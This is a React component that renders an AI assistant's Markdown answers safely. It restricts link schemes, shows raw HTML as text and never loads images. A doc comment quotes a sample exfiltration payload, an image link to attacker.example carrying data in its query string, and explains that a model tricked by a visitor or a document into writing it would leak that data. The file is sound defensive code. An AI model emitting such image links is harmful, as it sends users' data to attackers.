'use client';

import Markdown from 'markdown-to-jsx';
import { type AnchorHTMLAttributes, Fragment, type ImgHTMLAttributes, type TableHTMLAttributes } from 'react';
import { CodeBlock } from './code-block';

/** The schemes a link in an answer may have: anything else (javascript:, data:, vbscript:…) is text. */
const LINK_SCHEMES = new Set(['https:', 'http:', 'mailto:', 'tel:']);

function safeHref(href: string | undefined): string | null {
  if (!href) return null;
  try {
    // Resolved against a base, so that a relative link is judged by the scheme it really gets.
    return LINK_SCHEMES.has(new URL(href, 'https://relative.invalid').protocol) ? href : null;
  } catch {
    return null;
  }
}

function Link({ href, children }: AnchorHTMLAttributes<HTMLAnchorElement>) {
  const safe = safeHref(href);
  if (!safe) return <span>{children}</span>;
  return (
    <a href={safe} target="_blank" rel="noopener noreferrer">
      {children}
    </a>
  );
}

/**
 * An image in an answer is never loaded: a model tricked (by a visitor or a document) into writing
 * `![](https://attacker.example/?data=…)` would make the browser send that address away. It is shown
 * as a link the visitor may choose to open.
 */
function Image({ src, alt }: ImgHTMLAttributes<HTMLImageElement>) {
  let url: URL | null = null;
  try {
    url = typeof src === 'string' ? new URL(src) : null;
  } catch {}
  const web = url && (url.protocol === 'https:' || url.protocol === 'http:') ? url : null;
  const label = `🖼 ${alt?.trim() || web?.hostname || ''}`.trim();
  return web ? <Link href={web.href}>{label}</Link> : <span>{label}</span>;
}

/** A table scrolls sideways inside its own frame, never the conversation. */
function Table(props: TableHTMLAttributes<HTMLTableElement>) {
  return (
    // biome-ignore lint/a11y/noNoninteractiveTabindex: a scrollable region must be reachable by keyboard.
    <div className="parley-table" tabIndex={0}>
      <table {...props} />
    </div>
  );
}

const options = {
  // Model output is untrusted: raw HTML is shown as text, never parsed.
  disableParsingRawHTML: true,
  forceBlock: true,
  // The blocks go straight into .parley-markdown, whose styles space them.
  wrapper: Fragment,
  overrides: {
    a: { component: Link },
    img: { component: Image },
    pre: { component: CodeBlock },
    table: { component: Table },
  },
};

/**
 * An answer as safe Markdown: no raw HTML, sanitized URLs, links that open apart. markdown-to-jsx 7
 * is about 7 KB gzipped where version 9 is about 31 KB, for the same safe subset.
 */
export function MarkdownText({ text }: { text: string }) {
  return (
    <div className="parley-markdown">
      <Markdown options={options}>{text}</Markdown>
    </div>
  );
}
